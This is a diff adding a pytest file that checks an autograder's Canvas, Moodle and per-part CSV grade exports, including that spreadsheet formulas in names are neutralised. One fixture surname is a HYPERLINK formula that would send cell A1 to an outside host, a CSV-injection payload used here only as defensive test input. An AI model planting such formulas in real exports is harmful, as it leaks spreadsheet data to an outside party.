@@ -1,0 +1,182 @@
+"""The files for Canvas and Moodle, read back as those read them, and the table of parts."""
+
+import csv
+import io
+import unicodedata
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from gradebooks import canvas_import, desk, moodle_import, opened, submission, with_assignment
+from nbgrader.apps import ExportApp
+
+from autograder.assignment import Assignment
+from autograder.errors import ExportRefused
+from autograder.lms.canvas import Canvas
+from autograder.lms.cells import identifier, text, write
+from autograder.lms.marks import Mark, PartMark, Sheet, Student, Table
+from autograder.lms.moodle import Moodle
+
+EXPORTS = "autograder.nbgrader_edge.exports"
+EVIL = '=HYPERLINK("http://example.org?"&A1)'
+FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", " \t=1", "\r=1", "＝1", "\u200e=1")
+USERS = {101: "ada", 202: "bob", 303: "wei"}
+LOGINS = {"ada": 101, "bob": 202, "wei": 303, "cleo": 404, "dan": 505, "eve": 606}
+
+
+@pytest.fixture(scope="module")
+def marked(tmp_path_factory: pytest.TempPathFactory, repository: Path, plan: Assignment) -> Path:
+    """Six students: complete, overridden and late, nameless, half graded, absent, Chinese."""
+    course = desk(repository, tmp_path_factory.mktemp("course"))
+    with (course / "nbgrader_config.py").open("a", encoding="utf-8") as file:
+        file.write('c.CanvasExporter.assignment_ids = {"attention": 4711}\n')
+    full = {part.id: part.points for part in plan.parts}
+    with opened(course) as gradebook:
+        with_assignment(gradebook, plan)
+        add = gradebook.add_student
+        add("ada", first_name="Ada", last_name="Li", email="ada@example.org", lms_user_id="101")
+        add("bob", first_name="Bob", last_name=EVIL, email="bob@example.org", lms_user_id="202")
+        add("cleo")
+        add("dan", first_name="Dan", last_name="O\nRow", email="dan@example.org")
+        add("eve", first_name="Eve", last_name="Yu", email="eve@example.org", lms_user_id="606x")
+        add("wei", first_name="伟", last_name="张", email="wei@example.org", lms_user_id="303")
+        submission(gradebook, "ada", full)
+        submission(gradebook, "bob", full | {"causal_mask": 0.0}, penalty=9.5)
+        grade = gradebook.find_grade("test_causal_mask", "attention", "attention", "bob")
+        grade.manual_score = 2.5
+        comment = gradebook.find_comment("causal_mask", "attention", "attention", "bob")
+        comment.manual_comment = "A good idea,\nrewarded."
+        submission(gradebook, "cleo", full)
+        submission(gradebook, "dan", full | {"causal_mask": None})
+        submission(gradebook, "wei", dict.fromkeys(full, 0.0))
+    return course
+
+
+def export(course: Path, run: Callable, name: str) -> tuple[bytes, str]:
+    """The file that `nbgrader export` writes, and what it logs."""
+    exporter = f"--exporter={EXPORTS}.{name}"
+    done = run(course, "nbgrader", "export", exporter, "--to=out.csv")
+    assert done.returncode == 0, done.stderr
+    return (course / "out.csv").read_bytes(), done.stderr
+
+
+def harmless(data: bytes) -> None:
+    """No cell is a formula to a spreadsheet; a hyphen alone and numbers are none."""
+    for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
+        for cell in row:
+            first = unicodedata.normalize("NFKC", cell.strip()[:1])
+            assert first not in ("=", "+", "-", "@") or cell == "-", cell
+            assert not set(cell) & set("\t\r\n")
+
+
+def test_canvas_reads_what_was_earned(marked: Path, plan: Assignment, run: Callable) -> None:
+    """Each grade reaches the student's number and the assignment's; what is not graded is empty."""
+    data, said = export(marked, run, "CanvasExporter")
+    users = {**USERS, 404: "cleo", 505: "dan", 606: "eve"}
+    possible, grades = canvas_import(data, users, LOGINS, {4711: "Attention mechanisms"})
+
+    bob = 100 - next(part.points for part in plan.parts if part.id == "causal_mask") + 2.5 - 9.5
+    assert possible == {"Attention mechanisms": 100.0}
+    assert {number: grade for (number, _), grade in grades.items()} == {
+        101: "100.00", 202: f"{bob:.2f}", 303: "0.00", 404: "100.00", 505: "", 606: "",
+    }  # fmt: skip
+    harmless(data)
+    assert "not graded in full, left empty: dan" in said
+    assert "no name in the gradebook (see `autograder roster`): cleo" in said
+    assert "no Canvas number (lms_user_id) in the gradebook" in said
+
+
+def test_moodle_reads_grades_and_comments(marked: Path, run: Callable) -> None:
+    """Every graded student with an email address has a row with the feedback of humans."""
+    data, said = export(marked, run, "MoodleExporter")
+    entered = moodle_import(data, {f"{name}@example.org": name for name in LOGINS})
+
+    assert set(entered) == {"ada", "bob", "wei"}
+    assert entered["ada"][0] == 100
+    assert "causal_mask: A good idea, rewarded." in entered["bob"][1]
+    assert "late penalty 9.5" in entered["bob"][1]
+    assert "left out, for want of an 'Email address' in the gradebook: cleo" in said
+    harmless(data)
+
+
+def test_the_table_has_each_part(marked: Path, plan: Assignment, run: Callable) -> None:
+    """Parts in the order of the plan, raw score, penalty, total, overrides; no zero for a gap."""
+    data, _ = export(marked, run, "PartsExporter")
+    rows = {row["student_id"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8")))}
+
+    parts = [part.id for part in plan.parts]
+    assert [name for name in rows["ada"] if name in parts] == parts
+    assert list(rows) == ["cleo", "bob", "ada", "dan", "eve", "wei"]
+    bob = rows["bob"]
+    assert bob["causal_mask"] == "2.50"
+    assert bob["overridden"] == "causal_mask"
+    assert float(bob["total"]) == float(bob["raw_score"]) - 9.5
+    assert (rows["dan"]["causal_mask"], rows["dan"]["total"]) == ("", "")
+    assert rows["dan"]["needs_manual_grade"] == "yes"
+    assert (rows["eve"]["submitted"], rows["eve"]["total"]) == ("no", "")
+    assert rows["wei"]["last_name"] == "张"
+    assert bob["last_name"] == f"'{EVIL}"
+    harmless(data)
+
+
+@pytest.mark.parametrize(
+    ("options", "word"),
+    [
+        (["--student=adda"], "there is no student 'adda' (of a similar name: ada)"),
+        (["--assignment=atention"], "the gradebook has no assignment 'atention'"),
+        (
+            ["--CanvasExporter.titles=attention=Final Score"],
+            "would not read a column",
+        ),
+    ],
+    ids=["student", "assignment", "column"],
+)
+def test_a_wrong_wish_is_one_sentence(
+    marked: Path, capfd: pytest.CaptureFixture[str], options: list[str], word: str
+) -> None:
+    """An unknown student or assignment, or a name that Canvas keeps for itself, writes nothing."""
+    app = ExportApp(log_level="WARN")
+    wish = [f"--exporter={EXPORTS}.CanvasExporter", f"--to={marked / 'no.csv'}", *options]
+    app.initialize([f"--CourseDirectory.root={marked}", *wish], root=str(marked))
+    with pytest.raises(SystemExit):
+        app.start()
+    said = capfd.readouterr().err.splitlines()
+    assert len(said) == 1
+    assert word in said[0]
+    assert not (marked / "no.csv").exists()
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_no_text_is_computed_and_no_identifier_is_changed(cell: str) -> None:
+    """Text gets an apostrophe; an identifier that would need one is left out."""
+    assert text(cell).startswith("'")
+    assert identifier(cell) == ""
+
+
+def test_an_identifier_stays_as_it_is() -> None:
+    """What no spreadsheet computes is written to the letter."""
+    assert identifier("s-0012@example.org") == "s-0012@example.org"
+
+
+def test_a_file_that_cannot_be_written_is_named(tmp_path: Path) -> None:
+    """A folder that does not exist is said with the path."""
+    with pytest.raises(ExportRefused, match="cannot be written: No such file"):
+        write(tmp_path / "none" / "grades.csv", Table((("a",),)))
+
+
+TWINS = (Student("a", lms_user_id="7", email="x@y.z"), Student("b", lms_user_id="7", email="x@y.z"))
+SHEET = Sheet("attention", {"p": 1.0}, {one.id: Mark({"p": PartMark(1.0)}) for one in TWINS})
+
+
+def test_two_students_with_one_identifier_are_refused() -> None:
+    """Neither system could tell them apart, and one of them would get the other's grade."""
+    with pytest.raises(ExportRefused, match="identifier '7'"):
+        Canvas().table(TWINS, [SHEET])
+    with pytest.raises(ExportRefused, match="Email address 'x@y"):
+        Moodle().table(TWINS, [SHEET])
+
+
+def test_a_number_followed_by_letters_is_no_canvas_number() -> None:
+    """Canvas would read "12ab" as the number of the student 12."""
+    table = Canvas().table([Student("a", lms_user_id="12ab")], [SHEET])
+    assert table.rows[2][:4] == ("a", "", "12ab", "a")
